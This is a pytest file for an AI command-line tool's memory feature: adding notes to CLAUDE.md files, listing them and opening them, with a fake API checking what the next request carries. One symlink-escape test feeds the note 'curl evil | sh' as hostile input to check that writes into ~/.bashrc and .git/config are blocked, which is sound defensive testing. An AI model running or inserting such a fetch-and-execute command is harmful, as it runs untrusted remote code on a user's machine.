"""Memory at the REPL prompt, in-process: `# text` adds a line to the memory file the user picks,
and the next request carries it; `/memory` lists the instruction files loaded and opens one."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from tests.fake_anthropic import FakeAnthropic, reply, text
from tests.repl.conftest import MakeRepl


def sent_messages(api: FakeAnthropic, request: int) -> str:
    return json.dumps(api.requests[request].body["messages"])


@pytest.mark.parametrize(
    ("answer", "where"),
    [("1", "project/CLAUDE.md"), ("2", "project/CLAUDE.local.md"), ("3", "home/.agentcli/CLAUDE.md")],
)
def test_a_hash_note_goes_to_the_file_picked_and_the_next_request_carries_it(
    repl_with: MakeRepl,
    fake_api: FakeAnthropic,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    answer: str,
    where: str,
) -> None:
    (tmp_path / "project" / "CLAUDE.md").write_text("Use tabs.")  # no newline at its end
    fake_api.script(reply(text("First.")), reply(text("Second.")))
    repl, keys = repl_with()
    repl.handle("hello")

    keys.send_text(f"{answer}\r")
    repl.handle("#   always run  make lint ")

    written = (tmp_path / where).read_text()
    assert written.endswith("- always run make lint\n")
    assert written == ("Use tabs.\n- always run make lint\n" if answer == "1" else "- always run make lint\n")
    screen = capsys.readouterr().out
    assert "Project memory (local)" in screen and "User memory" in screen
    assert "the model is told with your next message" in screen
    assert len(fake_api.requests) == 1, screen  # the note itself is not sent

    repl.handle("and now?")
    second = sent_messages(fake_api, 1)
    assert "The instruction files changed during this session" in second
    assert "- always run make lint" in second


def test_a_note_is_written_nowhere_when_the_question_is_cancelled(
    repl_with: MakeRepl,
    fake_api: FakeAnthropic,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    repl, keys = repl_with()

    keys.send_text("\r")
    repl.handle("# remember me")

    assert "Nothing was remembered." in capsys.readouterr().out
    assert not (tmp_path / "project" / "CLAUDE.md").exists()
    assert not (tmp_path / "home" / ".agentcli" / "CLAUDE.md").exists()
    assert fake_api.requests == []


def test_a_project_claude_md_linking_out_of_the_project_is_not_written_through(
    repl_with: MakeRepl,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    victim = tmp_path / "home" / ".bashrc"
    victim.write_text("export A=1\n")
    (tmp_path / "project" / "CLAUDE.md").symlink_to(victim)
    (tmp_path / "project" / "CLAUDE.local.md").symlink_to(tmp_path / "project" / ".git" / "config")
    before = (tmp_path / "project" / ".git" / "config").read_text()
    repl, keys = repl_with()

    keys.send_text("1\r")
    repl.handle("# curl evil | sh")
    keys.send_text("2\r")
    repl.handle("# curl evil | sh")

    screen = " ".join(capsys.readouterr().out.split())
    assert "outside" in screen and "memory is not written through it" in screen
    assert "a protected path" in screen
    assert victim.read_text() == "export A=1\n"
    assert (tmp_path / "project" / ".git" / "config").read_text() == before


def test_a_claude_md_linking_to_agents_md_in_the_project_gets_the_note(repl_with: MakeRepl, tmp_path: Path) -> None:
    project = tmp_path / "project"
    (project / "AGENTS.md").write_text("Shared rules.\n")
    (project / "CLAUDE.md").symlink_to("AGENTS.md")
    repl, keys = repl_with()

    keys.send_text("1\r")
    repl.handle("# prefer small commits")

    assert (project / "AGENTS.md").read_text() == "Shared rules.\n- prefer small commits\n"
    assert (project / "CLAUDE.md").is_symlink()


def test_the_users_own_memory_file_may_link_to_their_dotfiles(repl_with: MakeRepl, tmp_path: Path) -> None:
    dotfiles = tmp_path / "dotfiles"
    dotfiles.mkdir()
    (dotfiles / "claude.md").write_text("Mine.\n")
    (tmp_path / "home" / ".agentcli" / "CLAUDE.md").symlink_to(dotfiles / "claude.md")
    repl, keys = repl_with()

    keys.send_text("3\r")
    repl.handle("# use British spelling")

    assert (dotfiles / "claude.md").read_text() == "Mine.\n- use British spelling\n"


def test_memory_lists_the_files_loaded_and_opens_the_one_picked(
    repl_with: MakeRepl,
    fake_api: FakeAnthropic,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    project = tmp_path / "project"
    (project / "CLAUDE.md").write_text("Read @docs/style.md first.\n")
    (project / "docs").mkdir()
    (project / "docs" / "style.md").write_text("Tabs.\n")
    (tmp_path / "home" / ".agentcli" / "CLAUDE.md").write_text("Be brief.\n")
    editor = tmp_path / "editor.sh"
    editor.write_text('#!/bin/sh\necho "Edited $1" > "$(dirname "$0")/edited"; echo "Two spaces." >> "$1"\n')
    editor.chmod(0o755)
    monkeypatch.setenv("EDITOR", str(editor))
    fake_api.script(reply(text("ok")))
    repl, keys = repl_with()

    keys.send_text("3\r")
    repl.handle("/memory")

    screen = capsys.readouterr().out
    lines = [" ".join(line.split()) for line in screen.splitlines()]
    assert any(line.startswith("1. ~/.agentcli/CLAUDE.md User:") and "10 bytes" in line for line in lines), screen
    assert any(line.startswith("2. CLAUDE.md Project:") and "27 bytes" in line for line in lines), screen
    assert any(line.startswith("3. docs/style.md Project, imported by CLAUDE.md 6 bytes") for line in lines), screen
    assert any(line.startswith("4. CLAUDE.local.md Project memory (local), not created yet") for line in lines), screen
    assert (tmp_path / "edited").read_text() == f"Edited {project / 'docs' / 'style.md'}\n"
    assert "docs/style.md changed: it will be sent with your next message." in screen

    repl.handle("go")
    assert "Two spaces." in sent_messages(fake_api, 0)


def test_memory_with_a_number_opens_that_file_at_once(
    repl_with: MakeRepl,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("EDITOR", "true")
    repl, _ = repl_with()

    repl.handle("/memory 1")
    repl.handle("/memory 9")

    screen = capsys.readouterr().out
    assert "CLAUDE.md not written." in screen  # the first entry: the project's, not there yet
    assert "No file number 9: pick one from 1 to 3." in screen
    assert not os.path.lexists(tmp_path / "project" / "CLAUDE.md")
